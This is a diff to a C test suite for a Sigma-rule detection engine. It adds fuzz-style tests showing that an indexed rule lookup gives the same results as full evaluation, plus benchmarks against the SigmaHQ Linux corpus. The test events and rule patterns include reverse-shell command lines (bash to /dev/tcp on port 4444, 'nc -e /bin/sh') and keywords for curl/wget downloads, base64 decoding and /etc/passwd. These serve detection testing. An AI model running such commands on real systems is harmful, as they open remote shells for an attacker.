@@ -22,7 +22,9 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <dirent.h>
 #include <sys/stat.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "testutil.h"
@@ -337,8 +339,9 @@ static void test_eval_condition(void **state)
                                 "process.parent.executable", "/usr/bin/python3", NULL);
     assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "revshell");
     assert_int_equal(st.matched, 1);
-    /* Only the two process_creation rules were tested on an exec. */
-    assert_int_equal(st.candidates, 2);
+    /* Of the two process_creation rules only revshell was tested: the
+     * index knows listofmaps needs curl or wget. */
+    assert_int_equal(st.candidates, 1);
     /* The filter holds: not matched. Case-insensitive by default. */
     v = fev_make(&e, eng, "process.executable", "/bin/BASH", "process.command_line",
                  "bash -i >& /DEV/TCP/10.0.0.1/4444", "process.parent.executable", "/USR/SBIN/SSHD",
@@ -588,8 +591,9 @@ static void test_can_never_match(void **state)
     struct ds_view v =
         fev_make(&e, eng, "process.executable", "/usr/bin/whoami", "file.path", "/y", NULL);
     assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "filtered,notonly");
-    /* Dead rules are not in any bucket: never tested. */
-    assert_int_equal(st.candidates, 3);
+    /* Dead rules are not in any bucket: never tested; nullok needs /id,
+     * notonly (no requirement) runs on every exec. */
+    assert_int_equal(st.candidates, 2);
     v = fev_make(&e, eng, "process.executable", "/usr/bin/id", NULL);
     assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "nullok,notonly");
     v = fev_make(&e, eng, "file.path", "/y", "process.parent.executable", "/x", NULL);
@@ -857,35 +861,50 @@ static void test_add_dir(void **state)
 static void test_no_allocation_per_event(void **state)
 {
     (void)state;
-    struct ds_engine *eng = engine(NULL);
-    add_ok(eng, "revshell.yml", rule_revshell);
-    add_ok(eng, "re.yml",
-           "title: re\n" LNX("process_creation") "detection:\n"
-                                                 "    sel:\n"
-                                                 "        CommandLine|re|i: 'nc\\s+-e'\n"
-                                                 "    kw:\n"
-                                                 "        - '*python*'\n"
-                                                 "    ref:\n"
-                                                 "        Image|fieldref: ParentImage\n"
-                                                 "    condition: sel or kw or ref\n");
-    assert_int_equal(ds_engine_build(eng), 0);
-    struct fev e;
-    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/bash",
-                                "process.command_line", "bash -c 'nc -e /bin/sh x 1'",
-                                "process.parent.executable", "/usr/bin/python3", NULL);
-    struct ds_eval_stats st;
-    assert_int_equal(ds_engine_eval(eng, DS_EV_PROCESS_EXEC, &v, NULL, NULL, &st), 0);
-    counting_install();
-    unsigned matched = 0;
-    counting = 1;
-    for (int i = 0; i < 100; i++) {
+    /* With the index (hash maps, automata, keyword scan) and without. */
+    for (int no_index = 0; no_index < 2; no_index++) {
+        struct ds_engine_opts o = {.no_index = no_index};
+        struct ds_engine *eng = engine(&o);
+        add_ok(eng, "revshell.yml", rule_revshell);
+        add_ok(eng, "re.yml",
+               "title: re\n" LNX("process_creation") "detection:\n"
+                                                     "    sel:\n"
+                                                     "        CommandLine|re|i: 'nc\\s+-e'\n"
+                                                     "    kw:\n"
+                                                     "        - '*python*'\n"
+                                                     "    ref:\n"
+                                                     "        Image|fieldref: ParentImage\n"
+                                                     "    condition: sel or kw or ref\n");
+        add_ok(eng, "kw.yml",
+               "title: kw\n" LNX("process_creation") "detection:\n"
+                                                     "    kw:\n"
+                                                     "        - '/bin/sh'\n"
+                                                     "    exact:\n"
+                                                     "        User: root\n"
+                                                     "    condition: kw or exact\n");
+        assert_int_equal(ds_engine_build(eng), 0);
+        struct fev e;
+        struct ds_view v =
+            fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.command_line",
+                     "bash -c 'nc -e /bin/sh x 1'", "process.parent.executable", "/usr/bin/python3",
+                     "user.name", "root", NULL);
+        struct ds_eval_stats st;
         assert_int_equal(ds_engine_eval(eng, DS_EV_PROCESS_EXEC, &v, NULL, NULL, &st), 0);
-        matched += st.matched;
+        counting_install();
+        unsigned matched = 0;
+        allocations = 0;
+        counting = 1;
+        for (int i = 0; i < 100; i++) {
+            assert_int_equal(ds_engine_eval(eng, DS_EV_PROCESS_EXEC, &v, NULL, NULL, &st), 0);
+            matched += st.matched;
+            char why[64];
+            ds_engine_explain(eng, ds_engine_rule_at(eng, 2), &v, why, sizeof why);
+        }
+        counting = 0;
+        assert_int_equal(allocations, 0);
+        assert_int_equal(matched, 200);
+        ds_engine_destroy(eng);
     }
-    counting = 0;
-    assert_int_equal(allocations, 0);
-    assert_int_equal(matched, 100);
-    ds_engine_destroy(eng);
 }
 
 /* A match callback that stops the evaluation: its value comes back. */
@@ -919,6 +938,734 @@ static void test_stop(void **state)
     ds_engine_destroy(eng);
 }
 
+/* ---- the index gives the results of the full evaluation ---- */
+
+static uint64_t rng_state;
+
+static uint32_t rnd(uint32_t n)
+{
+    /* xorshift64*: deterministic, so a failure reproduces. */
+    rng_state ^= rng_state >> 12;
+    rng_state ^= rng_state << 25;
+    rng_state ^= rng_state >> 27;
+    return (uint32_t)((rng_state * 2685821657736338717ull) >> 33) % n;
+}
+
+static const char *const words[] = {
+    "/usr/bin/", "bash",      "curl", "/tmp/", " -c ",   "wget",        "python3",
+    ".sh",       "/dev/tcp/", "nc",   " -e ",  "BASH",   "sh",          "http://",
+    "x",         "/home/u/",  "1",    "|",     "base64", "/etc/passwd",
+};
+#define N_WORDS (sizeof(words) / sizeof(words[0]))
+
+/* A value of 1 to 3 words, with a wildcard now and then. */
+static void gen_value(char *buf, size_t len, bool wild)
+{
+    buf[0] = '\0';
+    unsigned n = 1 + rnd(3);
+    for (unsigned i = 0; i < n; i++) {
+        size_t l = strlen(buf);
+        const char *sep = (wild && rnd(5) == 0) ? (rnd(2) ? "*" : "?") : "";
+        snprintf(buf + l, len - l, "%s%s", i ? sep : "", words[rnd(N_WORDS)]);
+    }
+}
+
+struct gfield {
+    const char *sigma, *ecs;
+    int numeric; /* values are numbers or addresses */
+};
+
+static const struct gfield proc_fields[] = {
+    {"Image", "process.executable", 0},
+    {"CommandLine", "process.command_line", 0},
+    {"ParentImage", "process.parent.executable", 0},
+    {"ParentCommandLine", "process.parent.command_line", 0},
+    {"CurrentDirectory", "process.working_directory", 0},
+    {"User", "user.name", 0},
+};
+static const struct gfield file_fields[] = {
+    {"TargetFilename", "file.path", 0},
+    {"Image", "process.executable", 0},
+};
+static const struct gfield net_fields[] = {
+    {"DestinationHostname", "destination.domain", 0},
+    {"DestinationPort", "destination.port", 1},
+    {"DestinationIp", "destination.ip", 2},
+    {"Image", "process.executable", 0},
+};
+
+static const char *const gen_mods[] = {
+    "",
+    "|contains",
+    "|startswith",
+    "|endswith",
+    "|contains|all",
+    "|re",
+    "|cased",
+    "|contains|cased",
+    "|windash|contains",
+    "|base64offset|contains",
+    "|exists",
+    "|re|i",
+    "|endswith|cased",
+    "|all",
+    "|fieldref",
+};
+#define N_MODS (sizeof(gen_mods) / sizeof(gen_mods[0]))
+
+static const char *const gen_res[] = {
+    "bash\\s+-c", "(curl|wget) ", "^/usr/bin/", "nc .*-e", "tmp/[a-z]+\\.sh$", "python3?",
+};
+
+/* Appends a printf'd piece to a growing buffer. */
+__attribute__((format(printf, 3, 4))) static void cat(char *buf, size_t len, const char *fmt, ...)
+{
+    size_t l = strlen(buf);
+    va_list ap;
+    va_start(ap, fmt);
+    vsnprintf(buf + l, len - l, fmt, ap);
+    va_end(ap);
+}
+
+static void gen_cond(char *buf, size_t len, unsigned nsel, unsigned depth)
+{
+    unsigned k = depth >= 2 ? 0 : rnd(6);
+    switch (k) {
+    case 1:
+    case 2:
+        cat(buf, len, "(");
+        gen_cond(buf, len, nsel, depth + 1);
+        cat(buf, len, k == 1 ? " and " : " or ");
+        gen_cond(buf, len, nsel, depth + 1);
+        cat(buf, len, ")");
+        break;
+    case 3:
+        cat(buf, len, "not ");
+        gen_cond(buf, len, nsel, depth + 1);
+        break;
+    case 4:
+        cat(buf, len, "%s of sel*", rnd(2) ? "1" : "all");
+        break;
+    default:
+        cat(buf, len, "sel%u", rnd(nsel));
+    }
+}
+
+/* A random rule of category cat_name over fields f[0..nf). */
+static void gen_rule(char *y, size_t len, unsigned id, const char *cat_name, const struct gfield *f,
+                     size_t nf)
+{
+    snprintf(y, len, "title: g%u\n" LNX("%s") "detection:\n", id, cat_name);
+    unsigned nsel = 1 + rnd(3);
+    for (unsigned s = 0; s < nsel; s++) {
+        bool list = rnd(4) == 0;
+        cat(y, len, "    sel%u:\n", s);
+        unsigned ngroups = list ? 1 + rnd(2) : 1;
+        for (unsigned g = 0; g < ngroups; g++) {
+            /* Distinct fields, so no key appears twice in one map. */
+            unsigned nf_in = 1 + rnd(2), first = rnd((uint32_t)nf);
+            for (unsigned i = 0; i < nf_in && i < nf; i++) {
+                const struct gfield *fd = &f[(first + i) % nf];
+                const char *ind = list ? (i == 0 ? "        - " : "          ") : "        ";
+                const char *mod = gen_mods[rnd(N_MODS)];
+                if (fd->numeric) {
+                    if (fd->numeric == 1)
+                        cat(y, len, "%s%s%s: %s\n", ind, fd->sigma, rnd(2) ? "" : "|gte",
+                            rnd(2) ? "443" : "4444");
+                    else
+                        cat(y, len, "%s%s|cidr: '%s'\n", ind, fd->sigma,
+                            rnd(2) ? "10.0.0.0/8" : "192.168.1.0/24");
+                    continue;
+                }
+                if (strcmp(mod, "|exists") == 0) {
+                    cat(y, len, "%s%s|exists: %s\n", ind, fd->sigma, rnd(2) ? "true" : "false");
+                    continue;
+                }
+                if (strcmp(mod, "|fieldref") == 0) {
+                    cat(y, len, "%s%s|fieldref: %s\n", ind, fd->sigma, f[rnd((uint32_t)nf)].sigma);
+                    continue;
+                }
+                if (rnd(12) == 0) {
+                    cat(y, len, "%s%s: null\n", ind, fd->sigma);
+                    continue;
+                }
+                cat(y, len, "%s%s%s:\n", ind, fd->sigma, mod);
+                unsigned nv = 1 + rnd(3);
+                bool re = strstr(mod, "re") != NULL;
+                bool b64 = strstr(mod, "base64") != NULL;
+                for (unsigned v = 0; v < nv; v++) {
+                    char val[128];
+                    if (re)
+                        snprintf(val, sizeof val, "%s", gen_res[rnd(6)]);
+                    else
+                        gen_value(val, sizeof val, !b64);
+                    cat(y, len, "%s    - '%s'\n", list ? "          " : "        ", val);
+                }
+            }
+        }
+    }
+    if (rnd(5) == 0) {
+        cat(y, len, "    selkw:\n        - '%s'\n", words[rnd(N_WORDS)]);
+    }
+    cat(y, len, "    condition: ");
+    gen_cond(y, len, nsel, 0);
+    if (strstr(y, "selkw:") && rnd(2))
+        cat(y, len, " or selkw");
+    cat(y, len, "\n");
+}
+
+/* An event of type t with some of the fields set to generated text. */
+static struct ds_view gen_event(struct fev *e, const struct ds_engine *eng, int t, char vals[][128])
+{
+    struct ds_view v = fev_make(e, eng, NULL);
+    const struct gfield *f = t == DS_EV_PROCESS_EXEC      ? proc_fields
+                             : t == DS_EV_NETWORK_CONNECT ? net_fields
+                                                          : file_fields;
+    size_t nf = t == DS_EV_PROCESS_EXEC      ? sizeof(proc_fields) / sizeof(proc_fields[0])
+                : t == DS_EV_NETWORK_CONNECT ? sizeof(net_fields) / sizeof(net_fields[0])
+                                             : sizeof(file_fields) / sizeof(file_fields[0]);
+    size_t n = 0;
+    for (size_t i = 0; i < nf; i++) {
+        if (rnd(6) == 0)
+            continue; /* absent */
+        if (f[i].numeric == 1)
+            snprintf(vals[i], 128, "%u", rnd(2) ? 443u : rnd(65536));
+        else if (f[i].numeric == 2)
+            snprintf(vals[i], 128, "%s.%u", rnd(2) ? "10.1.2" : "192.168.1", rnd(256));
+        else if (rnd(10) == 0)
+            vals[i][0] = '\0';
+        else if (rnd(8) == 0) {
+            /* base64 of some text, for base64offset. */
+            static const char *const b64[] = {"L2Rldi90Y3Av", "YmFzaCAtYw==", "Y3VybCBodHRw"};
+            snprintf(vals[i], 128, "echo %s|base64 -d", b64[rnd(3)]);
+        } else
+            gen_value(vals[i], 128, false);
+        e->kv[n++] = f[i].ecs;
+        e->kv[n++] = vals[i];
+    }
+    e->kv[n] = NULL;
+    return v;
+}
+
+static void test_index_equals_full_evaluation(void **state)
+{
+    (void)state;
+    rng_state = 0x9e3779b97f4a7c15ull;
+    struct ds_engine_opts with = {0}, without = {.no_index = true};
+    struct ds_engine *ix = engine(&with), *full = engine(&without);
+    static char y[16384];
+    unsigned loaded = 0;
+    for (unsigned id = 0; id < 400; id++) {
+        unsigned k = rnd(4);
+        const char *cat_name = k < 2    ? "process_creation"
+                               : k == 2 ? "file_event"
+                                        : "network_connection";
+        const struct gfield *f = k < 2 ? proc_fields : k == 2 ? file_fields : net_fields;
+        size_t nf = k < 2    ? sizeof(proc_fields) / sizeof(proc_fields[0])
+                    : k == 2 ? sizeof(file_fields) / sizeof(file_fields[0])
+                             : sizeof(net_fields) / sizeof(net_fields[0]);
+        gen_rule(y, sizeof y, id, cat_name, f, nf);
+        struct ds_rule *r1 = NULL, *r2 = NULL;
+        struct ds_load_result res;
+        assert_int_equal(ds_rule_load_buffer("g.yml", y, strlen(y), &r1, &res), 0);
+        if (!r1)
+            fail_msg("generated rule refused: %s\n%s", res.msg, y);
+        assert_int_equal(ds_rule_load_buffer("g.yml", y, strlen(y), &r2, &res), 0);
+        struct ds_report rep1, rep2;
+        assert_int_equal(ds_engine_add_rule(ix, r1, "g.yml", &rep1, NULL), 0);
+        assert_int_equal(ds_engine_add_rule(full, r2, "g.yml", &rep2, NULL), 0);
+        assert_int_equal(rep1.status, rep2.status);
+        if (rep1.status != DS_ST_LOADED && rep1.status != DS_ST_DEAD)
+            fail_msg("generated rule not compiled: %s\n%s", rep1.msg, y);
+        loaded++;
+    }
+    assert_int_equal(ds_engine_build(ix), 0);
+    assert_int_equal(ds_engine_build(full), 0);
+    static const int types[] = {DS_EV_PROCESS_EXEC, DS_EV_FILE_CREATE, DS_EV_FILE_RENAME,
+                                DS_EV_NETWORK_CONNECT};
+    unsigned long matches = 0, cand_ix = 0, cand_full = 0;
+    for (unsigned n = 0; n < 20000; n++) {
+        int t = types[rnd(4)];
+        struct fev e;
+        char vals[8][128];
+        struct ds_view v = gen_event(&e, ix, t, vals);
+        struct hits h1, h2;
+        struct ds_eval_stats s1, s2;
+        eval_titles(ix, t, &v, &h1, &s1);
+        e.eng = full; /* the same event, through the other engine's slots */
+        eval_titles(full, t, &v, &h2, &s2);
+        if (strcmp(h1.titles, h2.titles) != 0) {
+            char ev[1024] = "";
+            for (size_t i = 0; e.kv[i]; i += 2)
+                cat(ev, sizeof ev, "%s=%s; ", e.kv[i], e.kv[i + 1]);
+            fail_msg("event %u (%s): index [%s], full [%s]", n, ev, h1.titles, h2.titles);
+        }
+        assert_int_equal(s1.matched, s2.matched);
+        assert_true(s1.candidates <= s2.candidates);
+        matches += s1.matched;
+        cand_ix += s1.candidates;
+        cand_full += s2.candidates;
+    }
+    printf("%u generated rules, 20000 events: %lu matches; rules tested per event %.1f with the "
+           "index, %.1f without\n",
+           loaded, matches, (double)cand_ix / 20000, (double)cand_full / 20000);
+    /* The comparison means something only when rules do match, and the
+     * index must actually leave rules out. */
+    assert_true(matches > 2000);
+    assert_true(cand_ix * 2 < cand_full);
+    ds_engine_destroy(ix);
+    ds_engine_destroy(full);
+}
+
+/* ---- the public corpus (solo tests: they need RP_SIGMA_CORPUS) ---- */
+
+#ifndef RP_SIGMA_CORPUS
+#define RP_SIGMA_CORPUS "/work/shared/corpus/sigma"
+#endif
+
+/* What the collectors fill per event type: a copy of the provides lists of
+ * plugins/collector_process, collector_file and collector_network (the
+ * fields a Sigma rule can name; bookkeeping fields left out). */
+static const char *const filled_common_proc[] = {"process.pid",
+                                                 "process.entity_id",
+                                                 "process.executable",
+                                                 "process.name",
+                                                 "process.command_line",
+                                                 "process.parent.pid",
+                                                 "user.id",
+                                                 "user.name",
+                                                 "group.id",
+                                                 "group.name",
+                                                 "user.effective.id",
+                                                 "user.effective.name",
+                                                 NULL};
+static const char *const filled_exec[] = {"process.args",
+                                          "process.args_count",
+                                          "process.working_directory",
+                                          "process.parent.executable",
+                                          "process.parent.name",
+                                          "process.parent.command_line",
+                                          "container.id",
+                                          "process.hash.sha256",
+                                          NULL};
+static const char *const filled_common_file[] = {
+    "file.path",    "file.name",   "file.directory",    "file.extension",
+    "file.type",    "process.pid", "process.entity_id", "process.executable",
+    "process.name", "user.id",     "user.name",         NULL};
+static const char *const filled_file_stat[] = {"file.size", "file.inode", "file.mode", "file.uid",
+                                               "file.gid",  "file.owner", NULL};
+static const char *const filled_rename[] = {"collector_file.original.path",
+                                            "collector_file.original.name", NULL};
+static const char *const filled_common_net[] = {"destination.ip",
+                                                "destination.port",
+                                                "network.direction",
+                                                "network.transport",
+                                                "network.iana_number",
+                                                "network.type",
+                                                "user.id",
+                                                "process.pid",
+                                                "process.executable",
+                                                "process.name",
+                                                "process.entity_id",
+                                                "source.ip",
+                                                "source.port",
+                                                NULL};
+
+static bool in_list(const char *const *l, const char *field)
+{
+    for (size_t i = 0; l && l[i]; i++)
+        if (strcmp(l[i], field) == 0)
+            return true;
+    return false;
+}
+
+static int provides_filled(void *ctx, int type, const char *field)
+{
+    (void)ctx;
+    switch (type) {
+    case DS_EV_PROCESS_EXEC:
+        return in_list(filled_common_proc, field) || in_list(filled_exec, field);
+    case DS_EV_FILE_CREATE:
+    case DS_EV_FILE_MODIFY:
+        return in_list(filled_common_file, field) || in_list(filled_file_stat, field);
+    case DS_EV_FILE_RENAME:
+        return in_list(filled_common_file, field) || in_list(filled_file_stat, field) ||
+               in_list(filled_rename, field);
+    case DS_EV_FILE_DELETE:
+        return in_list(filled_common_file, field);
+    case DS_EV_NETWORK_CONNECT:
+    case DS_EV_NETWORK_ACCEPT:
+        return in_list(filled_common_net, field);
+    default:
+        return 0;
+    }
+}
+
+static const char *corpus_dir(void)
+{
+    const char *dir = getenv("RP_SIGMA_CORPUS");
+    if (!dir || !*dir)
+        dir = RP_SIGMA_CORPUS;
+    struct stat st;
+    if (stat(dir, &st) != 0 || !S_ISDIR(st.st_mode)) {
+        static char why[600];
+        snprintf(why, sizeof(why),
+                 "no Sigma corpus at %s (set RP_SIGMA_CORPUS to the SigmaHQ rules tree)", dir);
+        tu_skip(why);
+    }
+    return dir;
+}
+
+static double now_ms(void)
+{
+    struct timespec t;
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
+}
+
+/* Values the corpus rules look for, per ECS field, to build events that
+ * match some of them. */
+#define HARVEST_MAX 4096
+struct harvest {
+    const char *ecs[16];
+    char *vals[16][HARVEST_MAX];
+    unsigned n[16];
+    unsigned nfields;
+};
+
+static void harvest_value(struct harvest *hv, const char *ecs, const char *v, size_t len)
+{
+    unsigned f = 0;
+    while (f < hv->nfields && strcmp(hv->ecs[f], ecs) != 0)
+        f++;
+    if (f == hv->nfields) {
+        if (f == 16)
+            return;
+        hv->ecs[hv->nfields++] = ecs;
+    }
+    if (hv->n[f] >= HARVEST_MAX)
+        return;
+    /* Wildcards become nothing or one character, as a value that matches
+     * them might have. */
+    char *copy = malloc(len + 1);
+    assert_non_null(copy);
+    size_t o = 0;
+    for (size_t i = 0; i < len; i++) {
+        if (v[i] == '*')
+            continue;
+        copy[o++] = v[i] == '?' ? 'a' : v[i];
+    }
+    copy[o] = '\0';
+    hv->vals[f][hv->n[f]++] = copy;
+}
+
+static void harvest_rule(struct harvest *hv, const struct ds_rule *r)
+{
+    struct ds_fieldmap *m = NULL;
+    assert_int_equal(ds_fieldmap_create(&m), 0);
+    for (uint32_t s = 0; s < r->n_sels; s++)
+        for (uint32_t g = 0; g < r->sels[s].n_groups; g++)
+            for (uint32_t c = 0; c < r->sels[s].groups[g].n_conds; c++) {
+                const struct ds_field_cond *fc = &r->sels[s].groups[g].conds[c];
+                if (!fc->spec.field)
+                    continue;
+                const char *ecs =
+                    ds_fieldmap_get(m, r->logsource, fc->spec.field, fc->spec.field_len, NULL);
+                /* Only names of the built-in table (static strings). */
+                if (!ecs || !*ecs || ecs == fc->spec.field)
+                    continue;
+                if (fc->spec.mask & (DS_MODBIT(DS_MOD_RE) | DS_MODBIT(DS_MOD_BASE64) |
+                                     DS_MODBIT(DS_MOD_BASE64OFFSET)))
+                    continue;
+                for (uint32_t v = 0; v < fc->n_values; v++)
+                    if (fc->values[v].kind == DS_VAL_STRING || fc->values[v].kind == DS_VAL_INT)
+                        harvest_value(hv, ecs, fc->values[v].s, fc->values[v].len);
+            }
+    ds_fieldmap_destroy(m);
+}
+
+static int harvest_visit(struct harvest *hv, const char *dir)
+{
+    DIR *d = opendir(dir);
+    if (!d)
+        return -1;
+    struct dirent *e;
+    while ((e = readdir(d)) != NULL) {
+        if (e->d_name[0] == '.')
+            continue;
+        char p[4096];
+        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
+        struct stat st;
+        if (lstat(p, &st) != 0)
+            continue;
+        if (S_ISDIR(st.st_mode)) {
+            harvest_visit(hv, p);
+            continue;
+        }
+        size_t l = strlen(p);
+        if (l < 5 || strcmp(p + l - 4, ".yml") != 0)
+            continue;
+        struct ds_rule *r = NULL;
+        struct ds_load_result res;
+        if (ds_rule_load_file(p, &r, &res) == 0 && r) {
+            harvest_rule(hv, r);
+            ds_rule_destroy(r);
+        }
+    }
+    closedir(d);
+    return 0;
+}
+
+/* Benign values of a desktop, for the fields harvest has nothing for and
+ * for most events. */
+static const char *const benign[] = {
+    "/usr/bin/ls",
+    "/usr/bin/bash",
+    "/usr/lib/firefox/firefox",
+    "ls --color=auto -la",
+    "bash -c 'make -j2'",
+    "python3 /home/u/bin/sync.py",
+    "/home/u/.cache/x.tmp",
+    "/tmp/tmp.Xa12b/file",
+    "www.example.org",
+    "443",
+    "93.184.216.34",
+    "/home/u/src",
+};
+
+static struct ds_view corpus_event(struct fev *e, const struct ds_engine *eng, int t,
+                                   const struct harvest *hv, char vals[][512])
+{
+    struct ds_view v = fev_make(e, eng, NULL);
+    size_t n = 0;
+    for (unsigned f = 0; f < hv->nfields && n < 2 * FEV_MAX - 2; f++) {
+        if (!provides_filled(NULL, t, hv->ecs[f]) || rnd(4) == 0)
+            continue;
+        if (hv->n[f] && rnd(3) == 0) {
+            const char *x = hv->vals[f][rnd(hv->n[f])];
+            const char *pre = rnd(2) ? "" : benign[rnd(12)];
+            const char *post = rnd(2) ? "" : benign[rnd(12)];
+            snprintf(vals[f], 512, "%s%s%s", pre, x, post);
+        } else {
+            snprintf(vals[f], 512, "%s", benign[rnd(12)]);
+        }
+        e->kv[n++] = hv->ecs[f];
+        e->kv[n++] = vals[f];
+    }
+    e->kv[n] = NULL;
+    return v;
+}
+
+static void test_corpus_index_equals_full(void **state)
+{
+    (void)state;
+    const char *dir = corpus_dir();
+    char linux_dir[1024], own[1024], err[512];
+    snprintf(linux_dir, sizeof linux_dir, "%s/rules/linux", dir);
+    snprintf(own, sizeof own, "%s/config/rules/sigma", RP_SOURCE_DIR);
+    struct ds_engine_opts with = {.filled = provides_filled},
+                          without = {.filled = provides_filled, .no_index = true};
+    struct ds_engine *ix = engine(&with), *full = engine(&without);
+    assert_int_equal(ds_engine_add_dir(ix, linux_dir, NULL, NULL, NULL, err, sizeof err), 0);
+    assert_int_equal(ds_engine_add_dir(full, linux_dir, NULL, NULL, NULL, err, sizeof err), 0);
+    struct stat st;
+    bool has_own = stat(own, &st) == 0 && S_ISDIR(st.st_mode);
+    if (has_own) {
+        assert_int_equal(ds_engine_add_dir(ix, own, NULL, NULL, NULL, err, sizeof err), 0);
+        assert_int_equal(ds_engine_add_dir(full, own, NULL, NULL, NULL, err, sizeof err), 0);
+    }
+    assert_int_equal(ds_engine_build(ix), 0);
+    assert_int_equal(ds_engine_build(full), 0);
+    assert_true(ds_engine_rule_count(ix) > 100);
+    struct harvest *hv = calloc(1, sizeof(*hv));
+    assert_non_null(hv);
+    harvest_visit(hv, linux_dir);
+    if (has_own)
+        harvest_visit(hv, own);
+    rng_state = 0x2545f4914f6cdd1dull;
+    static const int types[] = {DS_EV_PROCESS_EXEC,  DS_EV_FILE_CREATE, DS_EV_FILE_MODIFY,
+                                DS_EV_FILE_RENAME,   DS_EV_FILE_DELETE, DS_EV_NETWORK_CONNECT,
+                                DS_EV_NETWORK_ACCEPT};
+    unsigned long matches = 0, cand_ix = 0, cand_full = 0;
+    const unsigned N = 30000;
+    static char vals[16][512];
+    for (unsigned n = 0; n < N; n++) {
+        int t = types[rnd(7)];
+        struct fev e;
+        struct ds_view v = corpus_event(&e, ix, t, hv, vals);
+        struct hits h1, h2;
+        struct ds_eval_stats s1, s2;
+        eval_titles(ix, t, &v, &h1, &s1);
+        e.eng = full;
+        eval_titles(full, t, &v, &h2, &s2);
+        if (strcmp(h1.titles, h2.titles) != 0) {
+            char ev[2048] = "";
+            for (size_t i = 0; e.kv[i]; i += 2)
+                cat(ev, sizeof ev, "%s=%s; ", e.kv[i], e.kv[i + 1]);
+            fail_msg("event %u (%s): index [%s], full [%s]", n, ev, h1.titles, h2.titles);
+        }
+        matches += s1.matched;
+        cand_ix += s1.candidates;
+        cand_full += s2.candidates;
+    }
+    printf("corpus Linux rules%s: %u rules, %u events: %lu matches; rules tested per event "
+           "%.2f with the index, %.2f without\n",
+           has_own ? " and config/rules/sigma" : "", ds_engine_rule_count(ix), N, matches,
+           (double)cand_ix / N, (double)cand_full / N);
+    assert_true(matches > 1000);
+    assert_true(cand_ix * 4 < cand_full);
+    for (unsigned f = 0; f < hv->nfields; f++)
+        for (unsigned i = 0; i < hv->n[f]; i++)
+            free(hv->vals[f][i]);
+    free(hv);
+    ds_engine_destroy(ix);
+    ds_engine_destroy(full);
+}
+
+/* The compile report of the whole SigmaHQ tree through the engine, with
+ * the collectors' provides lists deciding what is filled. */
+struct creport {
+    unsigned files, by_status[4], by_reason[DS_REASON_COUNT];
+    unsigned lnx[DS_LS_COUNT], lnx_loaded[DS_LS_COUNT], lnx_dead[DS_LS_COUNT],
+        lnx_refused[DS_LS_COUNT];
+    char dead[64][600];
+    unsigned n_dead;
+    char refused[16][600];
+    unsigned n_refused;
+};
+
+static void creport_cb(void *ctx, const struct ds_report *rep)
+{
+    struct creport *c = ctx;
+    c->files++;
+    c->by_status[rep->status]++;
+    c->by_reason[rep->reason]++;
+    if (rep->status == DS_ST_DEAD && c->n_dead < 64)
+        snprintf(c->dead[c->n_dead++], 600, "%s: %s", rep->path, rep->msg);
+    if (!rep->linux_product)
+        return;
+    c->lnx[rep->logsource]++;
+    if (rep->status == DS_ST_LOADED)
+        c->lnx_loaded[rep->logsource]++;
+    else if (rep->status == DS_ST_DEAD)
+        c->lnx_dead[rep->logsource]++;
+    else if (ds_reason_class(rep->reason) != DS_CLASS_SCOPE) {
+        c->lnx_refused[rep->logsource]++;
+        if (c->n_refused < 16)
+            snprintf(c->refused[c->n_refused++], 600, "%s", rep->msg);
+    }
+}
+
+static unsigned count_rule_files(const char *dir)
+{
+    DIR *d = opendir(dir);
+    if (!d)
+        return 0;
+    unsigned n = 0;
+    struct dirent *e;
+    while ((e = readdir(d)) != NULL) {
+        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
+            continue;
+        char p[4096];
+        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
+        struct stat st;
+        if (lstat(p, &st) != 0)
+            continue;
+        size_t l = strlen(e->d_name);
+        if (S_ISDIR(st.st_mode))
+            n += count_rule_files(p);
+        else if ((l > 4 && strcmp(e->d_name + l - 4, ".yml") == 0) ||
+                 (l > 5 && strcmp(e->d_name + l - 5, ".yaml") == 0))
+            n++;
+    }
+    closedir(d);
+    return n;
+}
+
+static size_t rss_bytes(void)
+{
+    FILE *f = fopen("/proc/self/statm", "r");
+    if (!f)
+        return 0;
+    unsigned long size = 0, res = 0;
+    int ok = fscanf(f, "%lu %lu", &size, &res) == 2;
+    fclose(f);
+    return ok ? (size_t)res * (size_t)sysconf(_SC_PAGESIZE) : 0;
+}
+
+static void test_corpus_compile_report(void **state)
+{
+    (void)state;
+    const char *dir = corpus_dir();
+    char linux_dir[1024], err[512];
+    snprintf(linux_dir, sizeof linux_dir, "%s/rules/linux", dir);
+    struct ds_engine_opts o = {.filled = provides_filled};
+
+    /* The Linux rules alone: load time, engine memory and RSS added. */
+    struct creport *lc = calloc(1, sizeof(*lc));
+    assert_non_null(lc);
+    size_t rss0 = rss_bytes();
+    double t0 = now_ms();
+    struct ds_engine *lnx = engine(&o);
+    assert_int_equal(ds_engine_add_dir(lnx, linux_dir, NULL, creport_cb, lc, err, sizeof err), 0);
+    assert_int_equal(ds_engine_build(lnx), 0);
+    double lnx_ms = now_ms() - t0;
+    size_t rss1 = rss_bytes();
+    size_t lnx_mem = ds_engine_memory(lnx);
+    uint32_t lnx_rules = ds_engine_rule_count(lnx);
+    ds_engine_destroy(lnx);
+
+    struct creport *c = calloc(1, sizeof(*c));
+    assert_non_null(c);
+    t0 = now_ms();
+    struct ds_engine *all = engine(&o);
+    assert_int_equal(ds_engine_add_dir(all, dir, NULL, creport_cb, c, err, sizeof err), 0);
+    assert_int_equal(ds_engine_build(all), 0);
+    double all_ms = now_ms() - t0;
+    size_t all_mem = ds_engine_memory(all);
+
+    printf("sigma engine, corpus %s:\n", dir);
+    printf("  files %u: loaded %u, dead %u, skipped %u\n", c->files, c->by_status[DS_ST_LOADED],
+           c->by_status[DS_ST_DEAD], c->by_status[DS_ST_SKIPPED]);
+    for (int i = 1; i < DS_REASON_COUNT; i++)
+        if (c->by_reason[i])
+            printf("  skipped %-24s %u\n", ds_reason_name(i), c->by_reason[i]);
